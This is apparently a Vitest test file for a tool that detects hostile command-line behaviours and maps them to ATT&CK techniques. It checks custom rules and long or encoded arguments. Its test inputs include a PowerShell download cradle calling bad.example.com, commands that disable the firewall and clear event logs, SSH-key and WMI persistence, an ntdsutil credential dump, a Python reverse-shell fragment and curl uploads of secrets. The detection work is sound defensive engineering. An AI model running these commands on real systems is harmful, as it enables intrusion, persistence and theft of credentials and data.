import { describe, expect, test } from 'vitest';
import { Behaviours, ruleFault } from '../../src/arguments/behaviours';
import { type BehaviourRule, defaultRules } from '../../src/arguments/behaviour-rules';
import { decode, mostLooked } from '../../src/arguments/decode';

const behaviours = new Behaviours();
const found = (text: string): readonly string[] => behaviours.rulesOf(behaviours.ofText(text)).map(({ id }) => id);
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe.each(defaultRules)('$name', ({ id, hits, misses, attack }) => {
  test.each(hits)('finds %s', (text) => expect(found(text)).toContain(id));
  test.each(misses)('does not find %s', (text) => expect(found(text)).not.toContain(id));
  test('names techniques and has examples of both kinds', () => {
    expect(attack.length).toBeGreaterThan(0);
    for (const technique of attack) expect(technique).toMatch(/^T\d{4}(?:\.\d{3})?$/);
    expect(hits.length).toBeGreaterThan(0);
    expect(misses.length).toBeGreaterThan(0);
  });
});

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example.com/a.ps1')";

// One case for each thing that a rule's pattern names, beside the examples that rules carry.
test.each<[string, string, string]>([
  ['defences-off', 'netsh advfirewall firewall set rule all new enable=no & netsh firewall set opmode off', 'netsh advfirewall show allprofiles'],
  ['defences-off', 'wevtutil cl Security', 'wevtutil qe Security'],
  ['persistence', 'launchctl load -w /Library/LaunchAgents/x.plist', 'launchctl list'],
  ['persistence', 'systemctl enable --now x.service', 'systemctl status x.service'],
  ['persistence', 'echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys'],
  ['persistence', 'Set-WmiInstance -Class __EventFilter -NameSpace root\\subscription', 'Get-WmiObject Win32_Process'],
  ['discovery', 'nltest /domain_trusts', 'nlrefresh /domain'],
  ['credentials', 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', 'ntdsutil "roles" q'],
  ['lol-download', 'mshta https://a.example/x.hta', 'mshta C:\\x.hta'],
  ['lol-download', 'bitsadmin /addfile j http://a.example/x C:\\x', 'bitsadmin /list'],
  ['reverse-shell', "python -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", 'python -m http.server'],
  ['upload', 'curl -T secrets.zip https://a.example', 'curl -tls https://a.example'],
  ['upload', "Invoke-WebRequest -Uri https://a.example -Method 'POST' -Body $d", 'Invoke-WebRequest -Uri https://a.example'],
  ['dns-channel', 'dig +short a.example TXT', 'dig +short a.example A'],
  ['staging', '7z.exe a out.7z C:\\Users', '7z.exe x in.7z'],
])('%s finds %s and not %s', (id, hit, miss) => {
  expect(found(hit)).toContain(id);
  expect(found(miss)).not.toContain(id);
});

describe('behaviours', () => {
  test('are found in what is hidden, and hiding is one of them', () => {
    expect(found(`-nop -w hidden -enc ${utf16(cradle)}`)).toEqual(expect.arrayContaining(['hidden', 'encoded', 'download-cradle', 'remote-script']));
  });

  test('of ordinary arguments are none', () => {
    for (const text of ['', '-File C:\\Scripts\\backup.ps1 -Verbose', '/c echo hello', '-m pip install requests', '--type=renderer --lang=en']) expect(found(text)).toEqual([]);
  });

  test('are found in bytes among other bytes, whatever the case', () => {
    const bytes = new TextEncoder().encode(`MIMIKATZ ${cradle.toUpperCase()} mimikatz`);
    const candidates = behaviours.candidates(bytes, 9, bytes.length - 9);
    expect(behaviours.rulesOf(behaviours.read(cradle.toUpperCase(), candidates).bits).map(({ id }) => id)).toEqual(['download-cradle', 'remote-script']);
  });
});

describe('a rule of the user', () => {
  const own: BehaviourRule = { id: 'own-1', name: 'Our tool', attack: [], words: ['ourtool'], pattern: String.raw`ourtool\s+--push\b`, hits: ['ourtool --push x'], misses: ['ourtool --pull x'] };

  test('counts beside the others', () => {
    const with1 = new Behaviours([own]);
    expect(with1.rulesOf(with1.ofText('OURTOOL --push mimikatz')).map(({ id }) => id)).toEqual(['offensive-tool', 'own-1']);
  });

  test('can be used when its examples agree', () => expect(ruleFault(own)).toBeNull());

  test.each(defaultRules)('and the default of $name pass the same check', (rule) => expect(ruleFault(rule)).toBeNull());

  test.each<[string, Partial<BehaviourRule>, RegExp]>([
    ['a pattern that cannot be read', { pattern: '(' }, /Our tool: the pattern cannot be read/],
    ['a pattern that is not linear', { pattern: '(a)\\1' }, /cannot be read/],
    ['no words', { words: [] }, /three characters or more/],
    ['a short word', { words: ['ab'] }, /three characters or more/],
    ['an example it misses', { hits: ['something else'] }, /does not find its own example “something else”/],
    ['an example it must not find', { misses: ['ourtool --push y'] }, /finds “ourtool --push y”, which it must not/],
    ['no name', { name: ' ' }, /needs a name/],
  ])('with %s is refused in a sentence', (_, change, sentence) => expect(ruleFault({ ...own, ...change })).toMatch(sentence));
});

describe('arguments longer than are looked at', () => {
  const filler = 'x '.repeat(mostLooked);
  const partial = (text: string): boolean => {
    const bytes = new TextEncoder().encode(text);
    return behaviours.read(text, behaviours.candidates(bytes, 0, bytes.length)).isPartial;
  };

  test.each<[string, string]>([
    ['the start', `${cradle} ${filler}`],
    ['the end', `${filler}; ${cradle}`],
    ['the end, encoded', `${filler} -enc ${utf16(cradle)}`],
    ['the middle of what is looked at', `${'x '.repeat(mostLooked / 4)}; ${cradle} ${'x '.repeat(mostLooked / 5)}`],
  ])('are read at %s', (_, text) => expect(found(text)).toEqual(expect.arrayContaining(['download-cradle', 'remote-script'])));

  test('have their words found anywhere', () => expect(found(`${filler} mimikatz ${filler}`)).toContain('offensive-tool'));

  test('are known to be read in part, and others to be read whole', () => {
    expect([partial(`${cradle} ${filler}`), partial(`-enc ${utf16(cradle)}`), partial(cradle + ' '.repeat(mostLooked / 2))]).toEqual([true, false, false]);
    let deep = cradle;
    for (let depth = 0; depth < 13; depth++) deep = Buffer.from(deep).toString('base64');
    expect(decode(deep).leftOut).toMatch(/below 12 layers/);
    expect(partial(deep)).toBe(true);
    expect(decode(`${cradle} ${filler}`).leftOut).toBe('2,097,230 characters long: the first and the last 524,288 were looked at.');
  });
});
